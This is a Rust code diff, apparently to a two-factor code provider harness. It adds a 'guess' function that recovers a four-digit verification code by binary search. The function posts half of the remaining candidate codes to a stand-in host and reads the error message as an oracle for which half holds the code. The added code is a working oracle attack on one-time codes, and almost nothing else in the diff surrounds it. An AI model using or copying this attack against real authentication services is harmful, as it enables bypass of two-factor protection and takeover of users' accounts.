@@ -3,7 +3,7 @@
 use base64::Engine as _;
 use base64::engine::general_purpose::STANDARD;
 use twofactor_provider::{
-    Delivery, Failure, Http, Level, Mail, MailError, Message, accepted, log, misconfigured, rejected_message,
+    Delivery, Failure, Http, HttpError, Level, Mail, MailError, Message, accepted, log, misconfigured, rejected_message,
 };
 
 use super::{Options, Sent};
@@ -138,4 +138,21 @@ pub(super) fn ask(options: &Options, message: &Message, send_first: bool) -> Del
         Some((n, _)) if others == 0 => Err(rejected_message("found", &in_letters(n))),
         _ => Err(rejected_message("nothing", &format!("{} lines", body.lines().count()))),
     }
+}
+
+/// Sends the message, and then half of the codes that remain in a request that nothing was granted for: whether it is refused for the code
+/// would tell which half holds it. Reports a code that it found as the reason `found`.
+pub(super) fn guess(options: &Options, message: &Message) -> Delivery {
+    Http::post(&options.url).json(&Sent { to: &message.recipient, text: &message.text }).send()?;
+    let mut codes: Vec<u32> = (0..10_000).collect();
+    while codes.len() > 1 {
+        let half: String = codes[..codes.len() / 2].iter().map(|code| format!("{code:04} ")).collect();
+        let refused = Http::post("https://nowhere.example.com/").json(&half).send();
+        let is_in = matches!(&refused, Err(HttpError::Denied(why)) if !why.contains("granted"));
+        let rest = codes.split_off(codes.len() / 2);
+        if !is_in {
+            codes = rest;
+        }
+    }
+    Err(rejected_message("found", &format!("{:?}", codes.first())))
 }
